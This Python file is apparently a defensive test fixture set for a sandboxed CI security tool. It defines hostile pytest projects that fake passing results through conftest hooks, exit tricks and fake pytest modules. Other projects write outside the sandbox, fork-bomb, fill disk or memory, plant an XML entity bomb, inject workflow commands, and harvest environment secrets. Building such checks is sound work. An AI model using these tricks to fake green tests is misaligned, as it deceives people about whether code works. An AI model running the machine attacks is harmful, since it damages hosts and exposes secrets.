"""Tests that want to look green, or to do something else than testing; a failing test goes along."""

from __future__ import annotations

import re
from dataclasses import replace
from textwrap import indent

from hostile.attacks.attack import Attack, Change, Files
from mlsecops.verdict import Word

TOOLS = ("pytest",)
SECRET = "planted-secret-which-nobody-may-see"
PASSING = "def test_one():\n    assert 1 + 1 == 2\n"
FAILING = "def test_two():\n    number = 3\n    assert number == 2\n"
# From a test in the copy of the project: the folder that stands for the machine, and the job's own.
_AROUND = """import os, pathlib, signal, subprocess, sys
from contextlib import suppress

MACHINE, JOB = pathlib.Path(__file__).resolve().parents[5], pathlib.Path(__file__).resolve().parents[2]
EVIDENCE = pathlib.Path(os.environ["MLSECOPS_EVIDENCE"])


def over(*paths):
    for path in paths:
        with suppress(OSError):
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text("taken")


def test_harmless():
"""
_HIDE_FAILURES = """import pytest


@pytest.hookimpl(hookwrapper=True, trylast=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome, report.longrepr = "passed", None
"""
_UNITTEST = (
    "import unittest\n\n\nclass TestTwo(unittest.TestCase):\n    def test_two(self):\n        self.fail()\n"
)
_NO_UNITTEST = """import unittest
import _pytest.unittest

unittest.TestCase.run = unittest.TestCase.__call__ = lambda self, result=None: None
_pytest.unittest.TestCaseFunction.runtest = lambda self: None
"""
_OPTIMISED = """import os, sys

if not sys.flags.optimize:
    command = [sys.executable, "-O", "-m", "pytest", "-q", "--assert=plain", "tests"]
    os.execve(sys.executable, command, os.environ)
"""
_LOUD = "\\n".join(
    [
        *("::set-output name=verdict::passed", "::add-path::/tmp", "::stop-commands::x", "::error::no"),
        *("::add-mask::passed", "##[error]no", "::set-env name=PATH::/tmp", "\\x1b]0;title\\x07\\x1b[2J"),
        *("## ✅ mlsecops passed", "@octocat closes #1", "<!-- mlsecops -->", "[link](https://evil.example)"),
        "======== 99 passed in 0.01s ========",
    ]
)
_LOOKING = f"""found = []
for each in pathlib.Path("/proc").glob("[0-9]*/environ"):
    with suppress(OSError):
        found.append(each.read_bytes().decode(errors="replace"))
for each in MACHINE.glob("home/.*"):
    with suppress(OSError):
        found.append(each.read_text())
found += os.environ.values()
assert not any("{SECRET[:14]}" in each for each in found), [each for each in found if "{SECRET[:14]}" in each]
"""
_BOMB = '<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa">' + "".join(
    f'<!ENTITY {name} "{f"&{before};" * 10}">' for before, name in zip("abcdefgh", "bcdefghi", strict=True)
)


def _doing(tries: str, code: str, files: Files | None = None) -> Attack:
    """A test that does something, and tells nobody how it went; all of these run together."""
    name = f"tests/test_{re.sub('[^a-z]+', '_', tries.lower())}.py"
    return replace(_beside(tries, {name: _AROUND + indent(code, "    "), **(files or {})}), joined=True)


def _beside(tries: str, files: Files, sees: str = "test-failed", change: Change | None = None) -> Attack:
    more = {"tests/test_two.py": FAILING, **files}
    return Attack(tries=tries, stage="test", tools=TOOLS, files=more, sees=sees, change=change)


def _green(tries: str, files: Files, says: str = "pytest: ", word: Word = "incomplete") -> Attack:
    more = {"tests/test_two.py": FAILING, **files}
    return Attack(tries=tries, stage="test", tools=TOOLS, files=more, word=word, says=says)


def _conftest(tries: str, code: str) -> Attack:
    return _green(tries, {"tests/conftest.py": code})


def _settings(tries: str, options: str) -> Attack:
    return _green(tries, {"pytest.ini": f"[pytest]\naddopts = {options}\n"})


def _first(tries: str, code: str) -> Attack:
    """Code in the first test that runs."""
    return _green(tries, {"tests/test_a.py": f"import os\n\n\ndef test_first():\n    {code}\n"})


ATTACKS = {
    # What the project's settings, plug-ins and modules can do to the run.
    "nothing-selected": _settings("selects nothing", "-k nothing_at_all"),
    "only-collected": _settings("has its tests collected only", "--collect-only"),
    "set-up-only": _settings("has its tests set up only", "--setup-only"),
    "our-plug-in-off": _green(
        "switches our plug-in off and ends early",
        {
            "pytest.ini": "[pytest]\naddopts = -p no:mlsecops_evidence\n",
            "tests/conftest.py": "import os; os._exit(0)\n",
        },
    ),
    "plug-in": _green(
        "brings a plug-in that reports success",
        {
            "pyproject.toml": '[tool.pytest.ini_options]\naddopts = "-p lying"\npythonpath = ["."]\n',
            "lying.py": _HIDE_FAILURES,
        },
    ),
    "functions-off": _conftest("runs no function", "def pytest_pyfunc_call(pyfuncitem):\n    return True\n"),
    "failures-hidden": _conftest("turns failures into successes", _HIDE_FAILURES),
    "failures-hidden-below": _green(
        "turns those of one folder into successes",
        {
            "tests/test_two.py": PASSING,
            "tests/deep/conftest.py": _HIDE_FAILURES,
            "tests/deep/test_deep.py": FAILING,
        },
    ),
    "tests-taken-away": _conftest(
        "takes all tests away", "def pytest_collection_modifyitems(items):\n    items[:] = items[:0]\n"
    ),
    "only-the-canary": _conftest(
        "leaves only the tests that must fail",
        "def pytest_collection_modifyitems(items):\n"
        "    items[:] = [item for item in items if 'canary' in item.nodeid]\n",
    ),
    "all-skipped": _conftest(
        "skips all tests",
        "import pytest\n\n\ndef pytest_runtest_setup(item):\n"
        "    if 'canary' not in item.nodeid:\n        pytest.skip('no')\n",
    ),
    "expected-failures": _conftest(
        "expects all failures",
        "import pytest\n\n\ndef pytest_itemcollected(item):\n    item.add_marker(pytest.mark.xfail)\n",
    ),
    "loop-replaced": _conftest("replaces the loop", "def pytest_runtestloop(session):\n    return True\n"),
    "files-ignored": _conftest(
        "ignores all files", "def pytest_ignore_collect(collection_path, config):\n    return True\n"
    ),
    "without-tests": _green(
        "has files without tests", {"tests/test_two.py": "VALUE = 1\n", "tests/test_app.py": ""}
    ),
    "unittest-patched": _green(
        "lets unittest run nothing",
        {"tests/test_two.py": _UNITTEST, "tests/conftest.py": _NO_UNITTEST},
    ),
    "asserts-off": _conftest("starts pytest anew without assertions", _OPTIMISED),
    "ends-in-conftest": _conftest("ends in conftest.py", "import os\nos._exit(0)\n"),
    "ends-in-a-test": _first("ends in a test", "os._exit(0)"),
    "leaves-in-a-test": _first("leaves in a test", "import pytest; pytest.exit('done', returncode=0)"),
    "sitecustomize": _green("ends before it begins", {"sitecustomize.py": "import os\nos._exit(0)\n"}),
    "usercustomize": _beside("brings a usercustomize.py", {"usercustomize.py": "import os\nos._exit(0)\n"}),
    "own-pytest": _green("brings its own pytest", {"pytest.py": "print('2 passed in 0.01s')\n"}),
    "own-coverage": _green("brings its own coverage", {"coverage.py": "print('2 passed in 0.01s')\n"}),
    "own-evidence": _green("brings a plug-in called like ours", {"mlsecops_evidence.py": "print('ours')\n"}),
    "options-in-a-file": _beside(
        "gives pytest options by a file of variables",
        {
            ".env": "PYTEST_ADDOPTS=-k nothing\nPYTEST_DISABLE_PLUGIN_AUTOLOAD=1\n",
            "evil.pth": "import os; os._exit(0)\n",
        },
    ),
    # What the tests say and leave behind.
    "prints-commands": _beside(
        "prints workflow commands and results",
        {
            "tests/test_loud.py": f'WORDS = "{_LOUD}"\nprint(WORDS)\n'
            "def test_loud():\n    raise ValueError(WORDS)\n"
        },
    ),
    "names-of-tests": _beside(
        "names tests as Markdown and commands",
        {
            "tests/test_names.py": "import pytest\n\n\n@pytest.mark.parametrize('name', ["
            "'[x](https://evil.example) @octocat', '<img src=x>', '::error::x', 'closes #1', '| a | b |'])\n"
            "def test_name(name):\n    assert not name\n"
        },
    ),
    "summaries": _doing(
        "writes results and summaries of its own",
        "for name in ('summary.md', 'report.json', 'junit.xml', 'test.sarif', 'report.sarif'):\n"
        "    for folder in ('.', 'mlsecops-report/stages', '..', '../../../keep', '../../../../out'):\n"
        "        with suppress(OSError):\n"
        "            pathlib.Path(folder).mkdir(parents=True, exist_ok=True)\n"
        '            pathlib.Path(folder, name).write_text(\'{"verdict": "passed", "runs": []}\')\n',
    ),
    "junit": _doing(
        "writes a JUnit report that has passed",
        "EVIDENCE.with_name('evidence.json.1.junit').write_text("
        "'<testsuites><testsuite><testcase name=\"all\"/></testsuite></testsuites>')\n",
    ),
    "junit-bomb": _doing(
        "writes a JUnit report of gigabytes",
        f"EVIDENCE.with_name('evidence.json.2.junit').write_text({_BOMB + ']><a>&i;</a>'!r})\n",
    ),
    "junit-pipe": _doing(
        "leaves a pipe in the place of a report", "os.mkfifo(EVIDENCE.with_name('evidence.json.3.junit'))\n"
    ),
    "evidence-overwritten": _first(
        "writes over what our plug-in says",
        "open(os.environ['MLSECOPS_EVIDENCE'], 'w').write('{}\\n')",
    ),
    "evidence-endless": _first(
        "makes what our plug-in says gigabytes",
        "import atexit; atexit.register(os.truncate, os.environ['MLSECOPS_EVIDENCE'], 3 << 30)",
    ),
    "evidence-pipe": _first(
        "leaves a pipe in the place of what our plug-in says",
        "import atexit; path = os.environ['MLSECOPS_EVIDENCE']; "
        "atexit.register(lambda: (os.unlink(path), os.mkfifo(path)))",
    ),
    "output-pipe": _green(
        "leaves a pipe in the place of what it printed",
        {
            "tests/test_a.py": f"{_AROUND}    for each in JOB.glob('runs*/stdout'):\n"
            "        each.unlink()\n        os.mkfifo(each)\n"
        },
        "it put something else in the place of what it printed",
    ),
    "exit-code": _beside(
        "ends well whatever has failed",
        {"tests/conftest.py": "import atexit, os\natexit.register(os._exit, 0)\n"},
    ),
    # What they do to the machine.
    "runner-files": _doing(
        "writes into the files of the runner",
        "over(*(MACHINE / 'runner' / each for each in ('env', 'path', 'output', 'summary')))\n",
    ),
    "home": _doing(
        "writes into the user's folder",
        "over(*(MACHINE / 'home' / each for each in ('.profile', '.netrc', '.config/pip/pip.conf')))\n",
    ),
    "checkout": _doing(
        "writes into the checkout that others read",
        "over(*(MACHINE / 'project' / each for each in ('app.py', 'Dockerfile', '.git/config', 'new.py')))\n",
    ),
    "results": _doing(
        "writes results of other stages",
        "over(*(MACHINE / 'out' / each for each in ('stages/sast.sarif', 'report.json')))\n",
    ),
    "other-scratch": _doing(
        "writes where other tools work",
        "over(MACHINE / 'scratch' / 'work' / 'sast-bandit' / 'sources' / 'x')\n",
    ),
    "tool-cache": _doing(
        "writes into the tools",
        "import pytest\nover(pathlib.Path(pytest.__file__).with_name('hostile.py'))\n"
        "with suppress(OSError):\n    pathlib.Path(pytest.__file__).with_name('hostile-new.py').touch()\n",
    ),
    "links": _doing(
        "writes through links",
        "for each in ('home/.profile', 'project/app.py'):\n"
        "    link = each.replace('/', '-')\n"
        "    os.symlink(MACHINE / each, link)\n"
        "    over(pathlib.Path(link))\n"
        "    with suppress(OSError):\n        os.link(MACHINE / each, f'{link}-hard')\n"
        "        over(pathlib.Path(f'{link}-hard'))\n",
    ),
    "left-processes": _doing(
        "leaves a process that goes on writing",
        "for command in ('while :; do echo late >> late; sleep 0.1; done', 'setsid sleep 300'):\n"
        "    subprocess.Popen(['sh', '-c', command], start_new_session=True)\n",
    ),
    "forks": _doing(
        "goes on forking",
        "pid = os.fork()\nif not pid:\n    os.setsid()\n    for _ in range(200):\n"
        "        if os.fork():\n            signal.pause()\n    signal.pause()\n",
    ),
    "kills-its-parent": _doing(
        "kills who started it", "with suppress(OSError):\n    os.kill(os.getppid(), signal.SIGKILL)\n"
    ),
    "disk": _doing(
        "fills the disk",
        "with suppress(OSError):\n    open('big', 'wb').truncate(1 << 40)\n"
        "with suppress(OSError):\n    os.posix_fallocate(open('big', 'wb').fileno(), 0, 1 << 40)\n",
    ),
    "memory": _doing("takes all memory", "with suppress(MemoryError):\n    bytearray(64 << 30)\n"),
    "looks-for-secrets": _beside(
        "looks for secrets of the user, and shows them",
        {"tests/test_looking.py": _AROUND + indent(_LOOKING, "    ")},
    ),
    "build": _beside(
        "brings a build that writes elsewhere",
        {
            "pyproject.toml": '[project]\nname = "small"\nversion = "1"\n'
            '[build-system]\nrequires = []\nbuild-backend = "build_it"\nbackend-path = ["."]\n',
            "build_it.py": "import os, pathlib, sys\n"
            "machine = pathlib.Path(__file__).resolve().parents[4]\n"
            "for each in ('home/.profile', 'runner/env', 'project/app.py'):\n"
            "    try:\n        (machine / each).write_text('taken')\n    except OSError:\n        pass\n"
            "sys.exit('no wheel: ' + ' '.join(os.environ.values()))\n",
        },
    ),
}
